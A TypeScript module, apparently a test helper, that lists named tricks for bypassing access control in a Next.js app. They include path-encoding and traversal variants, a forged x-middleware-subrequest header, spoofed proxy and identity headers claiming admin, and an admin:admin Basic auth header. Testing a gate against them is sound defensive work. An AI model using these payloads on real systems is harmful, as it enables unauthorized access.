/** A request as somebody would change it who wants more than he may. */
export interface Tricked {
  path: string;
  headers?: Readonly<Record<string, string>>;
}

type Trick = (path: string) => Tricked;

const upper = (path: string) => path.replace(/[a-z]+$/, (word) => word.toUpperCase());
const asking = (path: string, query: string) => `${path}${path.includes("?") ? "&" : "?"}${query}`;
const lastSlash = (path: string, by: string) => path.replace(/\/(?=[^/]*$)/, by);

/** What Next's browser half sends when it has everything around a page already and wants the page alone. */
function pageAlone(path: string): string {
  const page = ["__PAGE__", {}, null, "refetch"];
  const within = path
    .split("/")
    .filter(Boolean)
    .reduceRight<unknown>((inner, name) => [name, { children: inner }], page);
  return encodeURIComponent(JSON.stringify(["", { children: ["(pages)", { children: within }] }]));
}

/** Ways around a gate that were ways around somebody's: in paths, in Next's own headers, and in those of proxies. */
export const TRICKS: Readonly<Record<string, Trick>> = {
  "a second slash": (path) => ({ path: `/${path}` }),
  "an encoded slash before": (path) => ({ path: `/%2F${path.slice(1)}` }),
  "an encoded slash within": (path) => ({ path: lastSlash(path, "%2f") }),
  "a backslash": (path) => ({ path: lastSlash(path, "\\") }),
  "a slash at the end": (path) => ({ path: `${path}/` }),
  "a dot at the end": (path) => ({ path: `${path}/.` }),
  "up and down again": (path) => ({ path: `${path}/..${lastSlash(path, "/").replace(/.*(?=\/)/, "")}` }),
  "by way of an open path": (path) => ({ path: `/livez/..${path}` }),
  "by way of an open path, encoded": (path) => ({ path: `/livez/%2e%2e${path}` }),
  "the whole address": (path) => ({ path: `http://127.0.0.1${path}` }),
  "other letters": (path) => ({ path: upper(path) }),
  "an encoded letter": (path) => ({
    path: path.replace(/[a-z]$/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  }),
  "an extension for data": (path) => ({ path: `${path}.rsc` }),
  "an extension for a segment": (path) => ({ path: `${path}.segments/_tree.segment.rsc` }),
  "data as of old": (path) => ({ path: `/_next/data/x${path}.json`, headers: { "x-nextjs-data": "1" } }),
  "another method": (path) => ({
    path: asking(path, "_method=GET"),
    headers: { "x-http-method-override": "GET", "x-http-method": "GET", "x-method-override": "GET" },
  }),
  "a subrequest of the middleware": (path) => ({
    path,
    headers: { "x-middleware-subrequest": Array(5).fill("middleware").join(":") },
  }),
  "a subrequest of the middleware in src": (path) => ({
    path,
    headers: { "x-middleware-subrequest": Array(5).fill("src/middleware").join(":") },
  }),
  "a subrequest of the middleware of pages": (path) => ({
    path,
    headers: { "x-middleware-subrequest": "pages/_middleware", "x-middleware-prefetch": "1" },
  }),
  "Next's own data header": (path) => ({
    path,
    headers: { "x-nextjs-data": "1", "x-matched-path": "/livez", "x-invoke-path": "/livez" },
  }),
  "a part of the page": (path) => ({
    path: asking(path, "_rsc=1"),
    headers: { rsc: "1", "next-router-state-tree": pageAlone(path) },
  }),
  "a prefetched part of the page": (path) => ({
    path: asking(path, "_rsc=1"),
    headers: { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
  }),
  "an address as of a proxy": (path) => ({
    path,
    headers: {
      "x-forwarded-for": "127.0.0.1",
      "x-forwarded-host": "127.0.0.1",
      "x-forwarded-proto": "https",
    },
  }),
  "somebody's name": (path) => ({
    path,
    headers: {
      "x-greenlight-peer": "127.0.0.1",
      "x-greenlight-url": "/livez",
      "x-user": "admin@example.org",
      "x-role": "admin",
      "x-forwarded-user": "admin",
      "remote-user": "admin",
    },
  }),
  "another address to be rewritten to": (path) => ({
    path,
    headers: { "x-original-url": "/livez", "x-rewrite-url": "/livez", "x-forwarded-uri": "/livez" },
  }),
  "a password of an administrator": (path) => ({
    path,
    headers: { authorization: "Basic YWRtaW46YWRtaW4=" },
  }),
};
